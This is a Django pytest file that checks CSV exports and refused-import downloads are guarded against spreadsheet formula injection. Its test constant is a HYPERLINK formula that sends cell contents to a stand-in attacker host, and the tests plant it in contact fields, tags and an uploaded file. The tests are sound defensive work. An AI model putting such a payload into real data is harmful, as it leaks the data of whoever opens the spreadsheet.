"""A cell that begins like a formula is text in every file that leaves the product."""

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from campaigns.models import Campaign, RecipientStatus
from messaging.imports.running import run_imports
from messaging.models import Contact, ContactImport
from tests import factories
from units.models import Unit, User

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'
ROOT = Path(__file__).parents[2]


def cells(answer: Any) -> list[str]:
    assert answer.status_code == 200
    assert answer["Content-Type"].startswith("text/csv")
    text = b"".join(answer.streaming_content).decode("utf-8-sig")
    return [cell for delimiter in ";," for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


@pytest.fixture
def made(unit: Unit) -> Campaign:
    """Formulas in all that a stranger or a user may write."""
    unit.attributes.create(key="cidade", name=FORMULA)
    made = factories.campaign(unit, people=1)
    Contact.objects.update(name=FORMULA, attributes={"cidade": FORMULA})
    for contact in Contact.objects.all():
        contact.contact_tags.create(unit=unit, tag=unit.tags.create(name=FORMULA))
    made.recipients.update(status=RecipientStatus.FAILED, error_message=FORMULA)
    return made


@pytest.mark.parametrize(
    "path",
    [
        "/units/{unit}/contacts/export.csv",
        "/units/{unit}/campaigns/{campaign}/recipients.csv",
        "/app/u/{unit}/contacts/export",
        "/app/u/{unit}/campaigns/{campaign}/recipients.csv",
    ],
)
def test_an_export_has_no_formula(browser_client: Client, unit: Unit, made: Campaign, path: str) -> None:
    found = cells(browser_client.get(path.format(unit=unit.pk, campaign=made.pk)))
    assert any(FORMULA in cell for cell in found)
    assert [cell for cell in found if cell.startswith("=")] == []


def test_an_export_of_the_admin_has_no_formula(client: Client, made: Campaign) -> None:
    client.force_login(User.objects.create_superuser("staff@example.com"))
    found = cells(client.get(reverse("admin:campaigns_campaign_export", args=[made.pk])))
    assert any(FORMULA in cell for cell in found)
    assert [cell for cell in found if cell.startswith("=")] == []


@pytest.mark.parametrize("start", ["/units", "/app/u"])
def test_refused_rows_come_back_without_a_formula(
    browser_client: Client, unit: Unit, settings: Any, tmp_path: Path, start: str
) -> None:
    settings.MEDIA_ROOT = tmp_path
    line = FORMULA.replace('"', '""')
    file = SimpleUploadedFile("=a.csv", f'telefone;nome\n12;"{line}"\n'.encode())
    assert browser_client.post(f"/units/{unit.pk}/contacts/imports", {"file": file}).status_code == 202
    run_imports()
    found = cells(browser_client.get(f"{start}/{unit.pk}/contacts/imports/{ContactImport.objects.get().pk}/refused"))
    assert any(FORMULA in cell for cell in found)
    assert [cell for cell in found if cell.startswith("=")] == []


def test_nobody_else_writes_csv_to_a_browser() -> None:
    """So a new export is guarded, too."""
    sources = [
        path
        for app in ("units", "messaging", "campaigns", "webhooks", "console")
        for path in (ROOT / app).rglob("*.py")
    ]
    assert [path for path in sources if 'content_type="text/csv' in path.read_text()] == []
